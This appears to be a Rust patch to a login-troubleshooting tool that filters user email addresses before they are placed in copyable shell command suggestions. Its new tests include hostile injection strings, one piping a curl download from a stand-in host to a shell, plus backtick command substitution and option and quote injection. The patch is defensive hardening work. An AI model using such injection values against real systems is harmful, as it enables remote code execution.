@@ -32,7 +32,11 @@ fn login(login: &LoginView) -> String {
 
 /// What a fix comes to on the command line: the fix itself is for those who have the console alone.
 pub fn command(reason: &str, slug: &str, email: Option<&str>) -> Option<String> {
-    let email = email.unwrap_or("EMAIL");
+    // An address may hold what a shell would run: it is another's, and the line is there to be copied.
+    let harmless = |email: &&str| {
+        !email.starts_with('-') && email.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._+-@".contains(&byte))
+    };
+    let email = email.filter(harmless).unwrap_or("EMAIL");
     Some(match reason {
         "unsolicited" => format!("vestibule org set {slug} idp_initiated=true"),
         "connection_rests" => format!("vestibule link leave {slug}"),
@@ -97,6 +101,11 @@ mod tests {
         check(Some("unsolicited"), None, "fix: Do this.\n  or: vestibule org set acme idp_initiated=true");
         check(Some("connection_rests"), ada, "or: vestibule link leave acme");
         check(Some("not_a_member"), ada, "or: vestibule user add acme ada@acme.example");
+        for hostile in
+            ["x|curl${IFS}evil.example|sh@acme.example", "`id`@acme.example", "--json@acme.example", "a'b@acme.example"]
+        {
+            check(Some("not_a_member"), Some(hostile), "or: vestibule user add acme EMAIL");
+        }
         check(Some("account_deactivated"), None, "or: vestibule user activate EMAIL");
         check(Some("wrong_second_factor"), ada, "or: vestibule user reset-second-factor ada@acme.example");
         check(Some("audience_mismatch"), ada, "fix: Do this.");
